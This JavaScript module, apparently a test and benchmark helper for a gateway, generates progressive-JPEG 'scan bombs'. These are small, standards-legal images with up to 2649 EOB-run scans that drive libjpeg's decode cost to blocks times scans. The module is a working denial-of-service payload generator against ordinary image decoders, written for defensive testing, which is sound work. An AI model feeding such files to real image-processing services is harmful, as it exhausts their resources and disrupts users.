// Progressive-JPEG scan bombs, written byte by byte (used by the gateway's tests and the bench).
//
// A progressive JPEG may refine each coefficient band of each component in up to fourteen scans
// (a first pass at Al = 13, then one refinement per bit down to Al = 0), so a fully legal image has
// 1 + 63 x 14 = 883 scans in grey and 3 + 3 x 63 x 14 = 2649 in colour (one DC scan per
// component). Each scan here codes every block as an "EOB run" (a few bytes cover 32,767 blocks),
// so the file stays small, but libjpeg walks every block of the component's coefficient buffer for
// every scan: the decode costs blocks x scans, however few bytes carried it. The image decodes to
// flat grey, with no warning (djpeg -strict accepts it).
//
//   import { scanBomb } from './scan-bomb.mjs';
//   const bytes = scanBomb({ width: 4000, height: 3000, components: 3 }); // 2649 scans
//   const fewer = scanBomb({ width: 4000, height: 3000, components: 1, scans: 100 });

const MARKER = 0xff;

/** Writes Huffman codes and raw bits MSB first, with JPEG's byte stuffing (0xFF is followed by 0x00). */
class BitWriter {
  constructor() {
    this.bytes = [];
    this.current = 0;
    this.count = 0;
  }
  write(value, length) {
    for (let i = length - 1; i >= 0; i -= 1) {
      this.current = (this.current << 1) | ((value >> i) & 1);
      this.count += 1;
      if (this.count === 8) this.flushByte();
    }
  }
  flushByte() {
    this.bytes.push(this.current);
    if (this.current === MARKER) this.bytes.push(0);
    this.current = 0;
    this.count = 0;
  }
  /** Pads the last byte with one bits, as the standard asks at the end of a scan. */
  finish() {
    if (this.count > 0) this.write((1 << (8 - this.count)) - 1, 8 - this.count);
    return Buffer.from(this.bytes);
  }
}

const u16 = (n) => [(n >> 8) & 0xff, n & 0xff];
const segment = (marker, body) => Buffer.from([MARKER, marker, ...u16(body.length + 2), ...body]);

/** DC table 0: one symbol (category 0, a zero difference) coded '0'. */
const DC_TABLE = [0x00, ...[1, ...Array(15).fill(0)], 0x00];
/** AC table 0: the fifteen end-of-band-run symbols EOB0..EOB14 (r << 4), four-bit codes 0000..1110. */
const EOB_SYMBOLS = Array.from({ length: 15 }, (_, r) => r << 4);
const AC_TABLE = [0x10, ...[0, 0, 0, 15, ...Array(12).fill(0)], ...EOB_SYMBOLS];

/** Every block of a component in one EOB run after another (each at most 32,767 blocks). */
function eobRuns(blocks) {
  const bits = new BitWriter();
  let left = blocks;
  while (left > 0) {
    const run = Math.min(left, 0x7fff);
    const r = Math.floor(Math.log2(run));
    bits.write(r, 4); // the code of EOBr is r itself (table above)
    if (r > 0) bits.write(run - (1 << r), r);
    left -= run;
  }
  return bits.finish();
}

/** A DC first scan coding a zero difference for each of `blocks` blocks. */
function zeroDc(blocks) {
  const bits = new BitWriter();
  for (let i = 0; i < blocks; i += 1) bits.write(0, 1);
  return bits.finish();
}

function startOfScan(components, ss, se, ah, al) {
  const body = [components.length];
  for (const id of components) body.push(id, 0x00);
  body.push(ss, se, (ah << 4) | al);
  return segment(0xda, body);
}

/**
 * The scan script of a full successive approximation: one DC scan per component, then for each AC
 * coefficient of each component a first pass at Al = 13 and thirteen refinements.
 */
export function fullScript(components) {
  const ids = Array.from({ length: components }, (_, i) => i + 1);
  const script = ids.map((id) => ({ components: [id], ss: 0, se: 0, ah: 0, al: 0 }));
  for (let k = 1; k <= 63; k += 1) {
    for (const id of ids) {
      script.push({ components: [id], ss: k, se: k, ah: 0, al: 13 });
      for (let al = 12; al >= 0; al -= 1) script.push({ components: [id], ss: k, se: k, ah: al + 1, al });
    }
  }
  return script;
}

/**
 * A progressive JPEG of `width` x `height` with `components` (1: grey, 3: colour, no subsampling)
 * and the first `scans` scans of the full script (all of them by default: 883 in grey, 2649 in colour).
 */
export function scanBomb({ width, height, components = 3, scans } = {}) {
  if (components !== 1 && components !== 3) throw new Error('scanBomb: 1 or 3 components');
  const script = fullScript(components);
  const count = scans ?? script.length;
  if (count < components || count > script.length) {
    throw new Error(`scanBomb: between ${components} and ${script.length} scans`);
  }
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const parts = [
    Buffer.from([MARKER, 0xd8]),
    segment(0xdb, [0x00, ...Array(64).fill(1)]),
    segment(0xc2, [
      8,
      ...u16(height),
      ...u16(width),
      components,
      ...Array.from({ length: components }, (_, i) => [i + 1, 0x11, 0]).flat(),
    ]),
    segment(0xc4, [...DC_TABLE, ...AC_TABLE]),
  ];
  const dc = zeroDc(blocks);
  const ac = eobRuns(blocks);
  for (const scan of script.slice(0, count)) {
    parts.push(startOfScan(scan.components, scan.ss, scan.se, scan.ah, scan.al));
    parts.push(scan.ss === 0 ? dc : ac);
  }
  parts.push(Buffer.from([MARKER, 0xd9]));
  return Buffer.concat(parts);
}
